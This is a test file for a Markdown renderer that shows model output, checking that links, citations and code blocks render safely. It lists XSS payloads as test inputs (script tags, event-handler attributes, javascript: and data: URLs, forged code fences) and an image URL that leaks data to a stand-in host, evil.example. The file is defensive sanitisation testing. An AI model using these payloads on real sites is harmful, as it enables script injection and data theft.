// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { hasCodeBlock, loadHighlighter } from './highlight';
import { renderMarkdown } from './markdown';

/** Parse the output like the browser will and list everything that could run code. */
function dangers(html: string): string[] {
  const root = document.createElement('div');
  root.innerHTML = html;
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'img', 'svg', 'style', 'form'].includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
      if (/^\s*(javascript|data|vbscript):/i.test(attr.value)) found.push(`${tag}[${attr.name}=${attr.value}]`);
    }
  }
  return found;
}

describe('renderMarkdown', () => {
  it('renders ordinary Markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** and `code`\n\n- a\n- b');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>a</li>');
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '[click](javascript:alert(1))',
    '<a href="javascript:alert(1)">click</a>',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](javascript:alert(1))',
    '<svg onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div onclick="alert(1)">hi</div>',
    '<form action="https://evil.example"><button>go</button></form>',
    '<<script>script>alert(1)<</script>/script>',
    '`code` <details open ontoggle=alert(1)>',
  ])('produces nothing executable from %s', (source) => {
    const html = renderMarkdown(source);
    expect(dangers(html)).toEqual([]);
    expect(html).not.toMatch(/<script/i);
  });

  it('shows raw HTML written by the model as text', () => {
    const html = renderMarkdown('Use <script>alert(1)</script> carefully');
    const root = document.createElement('div');
    root.innerHTML = html;
    expect(root.textContent).toContain('<script>alert(1)</script>');
  });

  it('shows an image as its alt text and loads nothing', () => {
    const html = renderMarkdown('![a chart](https://evil.example/leak?q=secret)');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('[image: a chart]');
  });

  it('opens web links in a new tab without an opener', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('See [docs](https://example.com/a) or https://example.org');
    const links = [...root.querySelectorAll('a')];
    expect(links).toHaveLength(2);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('turns known citations into citation links and leaves unknown ones as text', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('Redis is fast [1]. Vectors too [1, 2]. Not this [7] or `[1]`.', [1, 2]);
    const cites = [...root.querySelectorAll('[data-testid="citation-link"]')];
    expect(cites.map((a) => a.getAttribute('data-cite'))).toEqual(['1', '1', '2']);
    expect(cites.every((a) => !a.hasAttribute('target'))).toBe(true);
    expect(root.textContent).toContain('[7]');
    expect(root.querySelector('code')?.textContent).toBe('[1]');
  });

  it('keeps a Markdown link whose text is a number a link', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('[1](https://example.com)', [1]);
    expect(root.querySelector('[data-testid="citation-link"]')).toBeNull();
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://example.com');
  });

  it('gives the model no way to forge a citation link with raw HTML', () => {
    const root = document.createElement('div');
    root.innerHTML = renderMarkdown('<a data-cite="1" data-testid="citation-link" href="#x">1</a>', [1]);
    expect(root.querySelector('a')).toBeNull();
  });
});

function parse(html: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

// Plain first: the highlighter, once loaded, stays loaded for the rest of the file.
describe('code blocks', () => {
  const HOSTILE = '```python\nprint("<script>alert(1)</script>")  # <img src=x onerror=alert(2)>\n```';

  it('come in a block headed by their language, the code as text, before colouring is loaded', () => {
    const root = parse(renderMarkdown('```python\nx = 1 < 2\n```'));
    expect(root.querySelector('.code-block .code-head .code-lang')?.textContent).toBe('python');
    const code = root.querySelector('.code-block pre > code');
    expect(code?.className).toBe('hljs language-python');
    expect(code?.textContent).toBe('x = 1 < 2');
    expect(code?.querySelector('span')).toBeNull();
  });

  it.each([
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '```py" onmouseover="alert(1)\nx\n```',
    '```' + 'a'.repeat(200) + '\nx\n```',
  ])('take no language from a forged fence %#', (source) => {
    const root = parse(renderMarkdown(source));
    expect(dangers(root.innerHTML)).toEqual([]);
    expect(root.querySelector('.code-lang')?.textContent).toBe('code');
    expect(root.querySelector('pre > code')?.className).toBe('hljs');
  });

  it('are found in Markdown, fenced or indented, and not in prose', () => {
    expect(hasCodeBlock('Run:\n\n```sh\nls\n```')).toBe(true);
    expect(hasCodeBlock('Run:\n\n    ls -la')).toBe(true);
    expect(hasCodeBlock('Use `ls` to list [1].')).toBe(false);
  });

  it('are coloured once highlight.js is loaded, with spans only, the code unchanged as text', async () => {
    await loadHighlighter();
    const root = parse(renderMarkdown('```python\ndef f(x):\n    return "a" if x else None\n```'));
    const code = root.querySelector('pre > code') as HTMLElement;
    expect(code.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(code.querySelector('.hljs-string')?.textContent).toBe('"a"');
    expect(code.textContent).toBe('def f(x):\n    return "a" if x else None');
    expect([...code.querySelectorAll('*')].every((el) => el.tagName === 'SPAN')).toBe(true);
  });

  it('stay text when coloured: markup inside code never becomes elements', async () => {
    await loadHighlighter();
    const root = parse(renderMarkdown(HOSTILE));
    expect(dangers(root.innerHTML)).toEqual([]);
    expect(root.querySelector('pre > code')?.textContent).toContain('<script>alert(1)</script>');
    expect(root.querySelector('pre > code')?.textContent).toContain('<img src=x onerror=alert(2)>');
  });

  it('leave an unknown language and a huge block plain', async () => {
    await loadHighlighter();
    const unknown = parse(renderMarkdown('```klingon\nqapla if else\n```'));
    expect(unknown.querySelector('pre > code span')).toBeNull();
    const huge = parse(renderMarkdown('```js\n' + 'let a = 1;\n'.repeat(3000) + '```'));
    expect(huge.querySelector('pre > code span')).toBeNull();
  });
});
